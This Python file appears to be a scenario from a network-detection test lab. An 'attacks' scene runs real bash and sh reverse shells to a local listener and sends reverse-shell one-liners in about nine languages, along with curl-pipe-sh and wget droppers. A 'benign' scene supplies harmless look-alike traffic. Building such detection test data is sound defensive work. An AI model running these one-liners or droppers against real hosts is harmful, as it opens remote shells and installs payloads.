"""Shells: real bash and sh connected out to a listener, a real bound shell; the commands that open shells, sent to a stand-in."""

import time

from .common import begin
from .scenes import scene
from .web import curl, reply, site

NEEDS = dict(bash="bash", socat="socat", unshare="util-linux")
TEXT = ["Content-Type: text/plain"]


def listener(host, port, *orders):
    """What the intruder's netcat would be: says its orders one after the other and reads what comes back."""
    def handle(c):
        c.settimeout(1)
        for order in orders:
            time.sleep(0.3)
            c.sendall(order)
        try:
            while c.recv(65536):
                pass
        except OSError:
            pass

    host.listen(port, handle)


def shell_home(host, to, port, name="3f2a9c1d7e4b"):
    """bash, connected to `to` as the classic one-liner does it, in a container-like host name."""
    host.run("unshare", "--uts", "bash", "-c", f"hostname {name}; cd /; PS1='\\u@\\h:\\w# ' exec bash --norc --noprofile -i >& /dev/tcp/{to}/{port} 0>&1", timeout=8)


@scene("attacks-shells", **NEEDS)
def attacks(lab):
    """reverse shells of bash and sh (real), a bound shell, a Windows prompt, one-liners in nine languages, droppers"""
    intruder, web = lab.host("intruder", 66), lab.host("web", 20)
    listener(intruder, 4444, b"id\n", b"uname -s\n", b"exit\n")
    listener(intruder, 4445, b"id\n", b"exit\n")
    listener(intruder, 4446, b"whoami\r\n")
    web.start("socat", "TCP-LISTEN:5555,fork,reuseaddr", "EXEC:/bin/sh", port=5555)
    site(web, 8080, [(r"", reply(200, "ok", "text/plain"))])
    site(intruder, 8000, [(r"/x86", reply(200, open("/bin/true", "rb").read()[:6000], "application/octet-stream", "SimpleHTTP/0.6 Python/3.11.2")),
                          (r"/i.sh", reply(200, "#!/bin/sh\ncd /tmp\ncurl -fsSL http://203.0.113.9/x86 -o /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n", "text/x-sh", "SimpleHTTP/0.6 Python/3.11.2"))])
    begin(lab)
    shell_home(web, intruder.ip, 4444)
    web.run("bash", "-c", f"cd /; exec sh -i >& /dev/tcp/{intruder.ip}/4445 0>&1", timeout=8)
    web.talk(intruder.ip, 4446, b"Microsoft Windows [Version 10.0.17763.5329]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\nC:\\inetpub\\wwwroot>", b"whoami\r\niis apppool\\defaultapppool\r\n\r\nC:\\inetpub\\wwwroot>")
    intruder.talk(web.ip, 5555, b"id\n")
    u = f"http://{web.ip}:8080/run"
    at = f"{intruder.ip}/4444"
    for body in (
        f"bash -i >& /dev/tcp/{at} 0>&1",
        f"nc {intruder.ip} 4444 -e /bin/sh",
        f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {intruder.ip} 4444 > /tmp/f",
        f"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{intruder.ip}\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        f"perl -e 'use Socket;$i=\"{intruder.ip}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        f"php -r '$s=fsockopen(\"{intruder.ip}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        f"powershell -nop -c \"$c = New-Object System.Net.Sockets.TCPClient('{intruder.ip}',4444);$s = $c.GetStream();iex $d\"",
        "powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABpAG4AZQByAHQA",
        f"socat TCP:{intruder.ip}:4444 EXEC:'bash -li',pty,stderr,setsid",
        f"curl -fsSL http://{intruder.ip}:8000/i.sh | sh",
    ):
        curl(intruder, u, body, headers=TEXT)
    curl(intruder, f"{u}?c=bash%20-c%20%22bash%20-i%20%3E%26%20/dev/tcp/10.77.0.66/4444%200%3E%261%22")
    curl(intruder, f"{u}?c=wget%20-qO-%20http://10.77.0.66/i.sh%20%7C%20bash")
    curl(web, f"http://{intruder.ip}:8000/i.sh")
    curl(web, f"http://{intruder.ip}:8000/x86")


@scene("benign-shells", **NEEDS)
def benign(lab):
    """text about shells, scripts and tools in ordinary use, a telnet-like menu, a download of an archive"""
    user, web, ops = lab.host("user", 30), lab.host("web", 20), lab.host("ops", 31)
    page = ("<html><body><h1>Bash</h1><p>Bash opens /dev/tcp/host/port by itself.</p><pre>$ id\nuid=0(root) gid=0(root) groups=0(root)\nroot@3f2a9c1d7e4b\nbash: no such job</pre>"
            "<p>Microsoft Windows [Version 10.0] prints its version.</p></body></html>")
    site(web, 8080, [(r"i\.sh", reply(200, "#!/bin/sh\nset -e\ncurl -fsSL https://example.org/key.asc -o /usr/share/keyrings/x.asc\nchmod 644 /usr/share/keyrings/x.asc\n", "text/x-sh")),
                     (r"tar.gz", reply(200, b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + bytes(range(200)) + b"\x7fELF", "application/gzip")), (r"", reply(200, page))])
    menu = lambda c: (c.sendall(b"status menu\r\n1) disks 2) users\r\n> "), c.recv(100), c.sendall(b"users: uid=1000(anna) gid=1000(anna)\r\n> "), c.recv(100))  # noqa: E731
    ops.listen(5555, menu)
    begin(lab)
    u = f"http://{web.ip}:8080"
    curl(user, f"{u}/bash.html"), curl(user, f"{u}/i.sh"), curl(user, f"{u}/release.tar.gz")
    for body in ("the file /dev/tcp/ is not a real folder", "nc -z web 80 && echo up", "mkfifo /tmp/log; cat /tmp/log", "import socket; s = socket.socket(); s.connect(('web', 80)); print(s.fileno())",
                 "use Socket; my $addr = inet_aton('web');", "$s = fsockopen('mail', 25); fwrite($s, 'HELO');", "$c = New-Object System.Net.Sockets.TCPClient('web', 443); $c.Connected",
                 "powershell -ExecutionPolicy Bypass -File deploy.ps1", "socat TCP-LISTEN:80,fork TCP:web:8080", "curl -fsSL https://example.org/i.sh -o i.sh", "uid=0(root) gid=0(root) is what id prints",
                 "Microsoft Windows [Version 10.0] is what ver prints", "there is no job control here; the shell said so", "root@db: password changed"):
        curl(user, f"{u}/notes", body, headers=TEXT)
    curl(user, f"{u}/find?q=/dev/tcp/")
    curl(user, f"{u}/find?q=wget%20https://example.org/a%20|%20gzip")
    user.talk(ops.ip, 5555, b"2\r\n", b"q\r\n")
